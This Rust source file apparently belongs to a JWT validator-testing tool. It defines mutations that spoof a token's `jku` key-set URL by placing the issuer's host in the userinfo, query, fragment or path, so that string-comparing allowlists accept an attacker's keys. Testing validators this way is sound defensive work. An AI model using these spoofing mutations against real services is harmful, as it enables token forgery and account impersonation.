//! `jku` that looks like an address of the issuer's and leads elsewhere: past lists that compare text.
//!
//! The rows change the `jku` that the recipe gave; where the attacker's keys are is not theirs to know.

use super::header::set;
use super::{Aim, Mutation};
use crate::forge::parts::{NotApplicable, Parts};
use serde_json::{Value, json};
use url::Url;

const fn row(name: &'static str, doc: &'static str, apply: super::Apply) -> Mutation {
    // by itself an address that is ignored: it is the stranger's signature that must not count
    Mutation::before(Aim::Header, name, doc, apply).disputed()
}

pub(super) const ROWS: &[Mutation] = &[
    row(
        "jku-userinfo",
        "`jku` with the issuer's host and port before an at sign: the host is the attacker's",
        |p| {
            let (jku, issuer) = addresses(p)?;
            let authority = authority(&issuer);
            let rest = &jku.as_str()[jku.scheme().len() + 3..];
            set(
                p,
                "jku",
                json!(format!("{}://{authority}@{rest}", jku.scheme())),
            )
        },
    ),
    row(
        "jku-issuer-in-query",
        "`jku` with the issuer in its query: compared by containing",
        |p| {
            let (jku, issuer) = addresses(p)?;
            set(p, "jku", json!(format!("{jku}?{issuer}")))
        },
    ),
    row(
        "jku-issuer-in-fragment",
        "`jku` with the issuer in its fragment: compared by containing or by the end",
        |p| {
            let (jku, issuer) = addresses(p)?;
            set(p, "jku", json!(format!("{jku}#{issuer}")))
        },
    ),
    row(
        "jku-issuer-in-path",
        "`jku` with the issuer's host in its path: compared by containing",
        |p| {
            let (jku, issuer) = addresses(p)?;
            set(p, "jku", json!(format!("{jku}/{}", authority(&issuer))))
        },
    ),
];

/// The attacker's address and the issuer's.
fn addresses(parts: &Parts) -> Result<(Url, Url), NotApplicable> {
    let jku = parts.header.get("jku").and_then(Value::as_str);
    let jku = Url::parse(jku.unwrap_or("https://keys.invalid/jwks"));
    let issuer = parts.claims.get("iss").and_then(Value::as_str);
    let issuer = Url::parse(issuer.unwrap_or_default());
    match (jku, issuer) {
        (Ok(jku), Ok(issuer)) if jku.has_host() && issuer.has_host() => Ok((jku, issuer)),
        _ => Err(NotApplicable("the issuer or the jku is no address")),
    }
}

/// Host and port as written.
fn authority(url: &Url) -> String {
    let host = url.host_str().unwrap_or_default();
    url.port()
        .map_or_else(|| host.to_owned(), |port| format!("{host}:{port}"))
}
